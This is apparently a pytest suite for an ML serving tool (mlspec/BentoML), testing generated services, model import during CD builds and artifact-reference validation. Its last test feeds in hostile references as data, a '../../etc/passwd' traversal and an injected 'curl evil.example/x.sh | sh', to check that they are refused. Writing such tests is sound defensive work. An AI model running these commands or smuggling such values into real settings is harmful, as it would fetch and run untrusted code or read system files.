"""The generated service in-process: column names that are not Python identifiers, int/float/str/bool
features, a model saved the model_store way (bentoml.models.create + model.pkl), strict row types;
and CD's path: `mlspec build --env ENV` importing the exported model named in deploy/<env>.yaml."""

from __future__ import annotations

import asyncio
import types
from pathlib import Path

import pytest
from pydantic import ValidationError

from mlspec.spec import load_spec
from mlspec.state.deploy import DeployedModel, Deployment, write_deployment
from tests.github_standin import GitHubStandIn
from tests.github_standin.runs import add_run
from tests.helpers import copy_example, run_mlspec
from tests.serve.conftest import CT_LINEAGE, Project, example_in_staging

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("serve")]

COLUMNS = ["mean radius", "class", "2nd-reading", "flag", "colour", "model_type"]


def _weird_model(tmp_path: Path):
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder

    from mlspec.state.model_store import save_model

    frame = pd.DataFrame(
        {
            "mean radius": [1.0, 2.5, 3.1, 0.4, 2.2, 1.9, 3.3, 0.1],
            "class": [1, 2, 3, 1, 2, 3, 1, 2],
            "2nd-reading": [0.1, 0.2, 0.9, 0.3, 0.8, 0.7, 0.95, 0.05],
            "flag": [True, False, True, False, True, False, True, False],
            "colour": ["red", "blue", "red", "green", "blue", "red", "green", "blue"],
            "model_type": [7, 8, 9, 7, 8, 9, 7, 8],
        }
    )
    label = ["no", "yes", "yes", "no", "yes", "no", "yes", "no"]
    encode = ColumnTransformer([("cat", OneHotEncoder(handle_unknown="ignore"), ["colour"])], remainder="passthrough")
    model = make_pipeline(encode, LogisticRegression(max_iter=500)).fit(frame, label)
    metadata = {
        "project": "weird",
        "task": "binary",
        "label": "y",
        "features": COLUMNS,
        "dtypes": {
            "mean radius": "float",
            "class": "int",
            "2nd-reading": "float",
            "flag": "bool",
            "colour": "str",
            "model_type": "int",
        },
        "classes": ["no", "yes"],
        "data": {"train": "xxh3_128:aa"},
        "git_commit": None,
    }
    tag = save_model("weird", model, labels={"project": "weird"}, metadata=metadata)
    return tag, model, frame


def test_generated_service_handles_any_column_names_and_dtypes(tmp_path: Path) -> None:
    import bentoml

    from mlspec.serve import codegen, modelref

    tag, model, frame = _weird_model(tmp_path)
    root = copy_example("breast-cancer", tmp_path)
    loaded = load_spec(root / "mlproject.yaml", check_files=False)
    info = modelref.model_info(bentoml.models.get(tag), "binary")
    assert info.loader == codegen.LOADER_CLOUDPICKLE
    files = codegen.generate(loaded.spec, info, ["scikit-learn==1.7.2"])
    again = codegen.generate(loaded.spec, info, ["scikit-learn==1.7.2"])
    assert files.files == again.files  # deterministic

    module = types.ModuleType("generated_service")
    exec(compile(files.files["service.py"], "service.py", "exec", dont_inherit=True), module.__dict__)
    rows = [module.Row.model_validate(r) for r in frame.to_dict("records")]
    service = module.BreastCancer.inner()
    assert asyncio.run(service.predict(rows)) == model.predict(frame).tolist()
    classes = model.classes_.tolist()
    assert asyncio.run(service.predict_proba(rows)) == [
        [{"label": label, "probability": p} for label, p in zip(classes, row, strict=True)]
        for row in model.predict_proba(frame).tolist()
    ]

    good = frame.to_dict("records")[0]
    for bad, where in (
        ({**good, "class": "1"}, "class"),
        ({**good, "flag": 1}, "flag"),
        ({**good, "colour": 3}, "colour"),
        ({**good, "extra": 1}, "extra"),
    ):
        with pytest.raises(ValidationError) as caught:
            module.Row.model_validate(bad)
        assert where in str(caught.value)
    assert "list[str]" in files.files["service.py"]  # predict's output type follows the classes


def test_all_float_rows_go_into_one_float_frame_and_large_requests_predict_off_the_event_loop(tmp_path: Path) -> None:
    """The float-only fast path converts the validated rows once (null -> NaN); a request above INLINE_ROWS
    predicts in a worker thread and gets the same answers as one on the event loop."""
    import bentoml
    import numpy as np
    import pandas as pd
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    from mlspec.serve import codegen, modelref
    from mlspec.state.model_store import save_model

    train = pd.DataFrame({"a b": [1.0, np.nan, 3.0, 0.5, 2.5, np.nan], "c": [0.1, 0.9, 0.3, 0.8, 0.2, 0.7]})
    model = make_pipeline(SimpleImputer(), LogisticRegression()).fit(train, [0, 1, 0, 1, 0, 1])
    metadata = {
        "project": "floaty",
        "task": "binary",
        "label": "y",
        "features": ["a b", "c"],
        "dtypes": {"a b": "float", "c": "float"},
        "missing": ["a b"],
        "nonfinite": {"a b": ["nan"], "c": []},
        "classes": [0, 1],
        "data": {"train": "xxh3_128:aa"},
        "git_commit": None,
    }
    tag = save_model("floaty", model, labels={"project": "floaty"}, metadata=metadata)
    root = copy_example("breast-cancer", tmp_path)
    loaded = load_spec(root / "mlproject.yaml", check_files=False)
    files = codegen.generate(loaded.spec, modelref.model_info(bentoml.models.get(tag), "binary"), ["scikit-learn"])
    module = types.ModuleType("generated_floaty")
    exec(compile(files.files["service.py"], "service.py", "exec", dont_inherit=True), module.__dict__)

    rows = [
        module.Row.model_validate({"a b": None, "c": 0.25}),
        module.Row.model_validate({"c": 0.75}),
        module.Row.model_validate({"a b": 2.0, "c": 0.5}),
    ]
    frame = module._frame(rows)
    assert list(frame.columns) == ["a b", "c"] and frame.dtypes.tolist() == ["float64", "float64"]
    assert frame["a b"].isna().tolist() == [True, True, False] and frame["c"].tolist() == [0.25, 0.75, 0.5]
    expected = model.predict(pd.DataFrame({"a b": [np.nan, np.nan, 2.0], "c": [0.25, 0.75, 0.5]})).tolist()
    service = module.BreastCancer.inner()
    assert asyncio.run(service.predict(rows)) == expected
    many = rows * (codegen.INLINE_ROWS // 3 + 1)
    assert len(many) > module.INLINE_ROWS == codegen.INLINE_ROWS
    assert asyncio.run(service.predict(many)) == expected * (len(many) // 3)
    assert asyncio.run(service.predict_proba(many)) == asyncio.run(service.predict_proba(rows)) * (len(many) // 3)


def test_predict_proba_for_a_regressor_is_a_spec_error(project: Project) -> None:
    from mlspec.errors import ServeError
    from mlspec.serve import codegen

    loaded = load_spec(project.spec, check_files=False)
    info = codegen.ModelInfo(
        tag="x:v1", loader=codegen.LOADER_PICKLABLE, features=["a"], dtypes={"a": "float"}, task="regression"
    )
    spec = loaded.spec.model_copy(update={"serve": loaded.spec.serve.model_copy(update={"apis": ["predict_proba"]})})
    with pytest.raises(ServeError, match="predict_proba.*regression"):
        codegen.generate(spec, info, [])


def test_build_env_imports_the_exported_model_named_in_deploy_file(project: Project, tmp_path: Path) -> None:
    from mlspec.state.model_store import export_model

    root = copy_example("breast-cancer", tmp_path / "cd")
    archive = export_model(project.tag, root / "artifacts" / "model")
    assert archive.name == "model.bentomodel" and archive.is_file()
    write_deployment(
        root,
        Deployment(
            project="breast-cancer",
            environment="staging",
            model=DeployedModel(
                tag=project.tag, version=project.tag.split(":")[1], artifact="artifacts/model.bentomodel"
            ),
            lineage={"run_id": "r1", "commit": "feedfacefeedface"},
        ),
    )
    fresh_home = tmp_path / "cd-bentoml-home"  # CD's runner: an empty store
    result = run_mlspec(
        "build", str(root / "mlproject.yaml"), "--env", "staging", env={"BENTOML_HOME": str(fresh_home)}
    )
    assert result.returncode == 0, result.stderr
    assert f"imported model {project.tag} from" in result.stdout
    assert "from " + str(root / "deploy" / "staging.yaml") in result.stdout
    assert (fresh_home / "models" / "breast-cancer" / project.tag.split(":")[1]).is_dir()

    (root / "artifacts" / "model.bentomodel").unlink()
    result = run_mlspec(
        "build", str(root / "mlproject.yaml"), "--env", "staging", env={"BENTOML_HOME": str(tmp_path / "empty-home")}
    )
    assert result.returncode == 1
    assert f"model {project.tag} (from {root / 'deploy' / 'staging.yaml'}) is not in the BentoML store" in result.stderr
    assert "model.bentomodel does not exist" in result.stderr


def test_bentoml_home_inside_the_build_context_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlspec.errors import ServeError
    from mlspec.serve.bento import check_home_outside

    context = tmp_path / ".mlspec" / "service" / "svc"
    monkeypatch.setenv("BENTOML_HOME", str(context / "home"))
    with pytest.raises(ServeError, match="BENTOML_HOME .* is inside the build context"):
        check_home_outside(context)
    monkeypatch.setenv("BENTOML_HOME", str(tmp_path / "elsewhere"))
    check_home_outside(context)


def test_locate_names_the_ct_artifact_and_build_imports_it_from_there(
    project: Project, tmp_path: Path, github_standin: GitHubStandIn
) -> None:
    """CD's first step: `build --env ENV --locate` says which CT run artifact to download and where (once the API
    shows run 4242 is a CT run of main: tests/serve/test_provenance.py); after the download, build imports the
    archive from that folder into an empty store."""
    from mlspec.state.model_store import export_model

    inner = "runs/20260101T000000000000Z-00001/model.bentomodel"
    reference = f"gh-artifact:4242/mlspec-breast-cancer-ct-state/{inner}"
    root = example_in_staging(tmp_path / "cd", project.tag, reference, CT_LINEAGE)
    add_run(github_standin, 4242, workflow=".github/workflows/mlspec-breast-cancer-ct.yml")
    located = run_mlspec("build", "mlproject.yaml", "--env", "staging", "--locate", cwd=root, env=github_standin.env())
    assert located.returncode == 0, located.stderr
    folder = ".mlspec/artifacts/4242/mlspec-breast-cancer-ct-state"
    assert located.stdout.splitlines() == [
        "download=true",
        f"tag={project.tag}",
        "run-id=4242",
        "name=mlspec-breast-cancer-ct-state",
        f"path={folder}",
        f"artifact={folder}/{inner}",
    ]
    export_model(project.tag, root / folder / inner)  # what actions/download-artifact puts there
    result = run_mlspec(
        "build", "mlproject.yaml", "--env", "staging", cwd=root, env={"BENTOML_HOME": str(tmp_path / "empty-store")}
    )
    assert result.returncode == 0, result.stderr
    assert f"imported model {project.tag} from {root / folder / inner}" in result.stdout


@pytest.mark.parametrize(
    "reference",
    [
        "gh-artifact:42/x/../../etc/passwd",
        "gh-artifact:42; curl evil.example/x.sh | sh",
        "gh-artifact:run-1/mlspec-state",
    ],
)
def test_locate_refuses_an_artifact_reference_that_is_not_plain_names(
    project: Project, tmp_path: Path, reference: str
) -> None:
    root = example_in_staging(tmp_path / "cd", project.tag, reference)
    result = run_mlspec("build", "mlproject.yaml", "--env", "staging", "--locate", cwd=root)
    assert result.returncode == 1
    assert result.stdout == ""
    assert f"model.artifact: {reference!r} is not `gh-artifact:<workflow-run-id>/<artifact-name>" in result.stderr
    assert "Traceback" not in result.stderr
